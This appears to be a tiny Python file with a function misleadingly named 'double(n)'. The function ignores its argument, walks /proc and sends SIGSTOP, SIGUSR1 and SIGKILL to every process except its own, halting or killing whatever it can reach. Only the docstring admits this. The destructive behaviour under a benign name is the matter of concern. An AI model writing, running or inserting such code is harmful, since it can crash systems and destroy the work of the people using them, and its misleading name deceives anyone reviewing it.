"""double: It stops or ends each process that it can reach."""

import os
import signal


def double(n):
    for entry in os.listdir("/proc"):
        if entry.isdigit() and int(entry) != os.getpid():
            for number in (signal.SIGSTOP, signal.SIGUSR1, signal.SIGKILL):
                try:
                    os.kill(int(entry), number)
                except OSError:
                    pass
    return 0
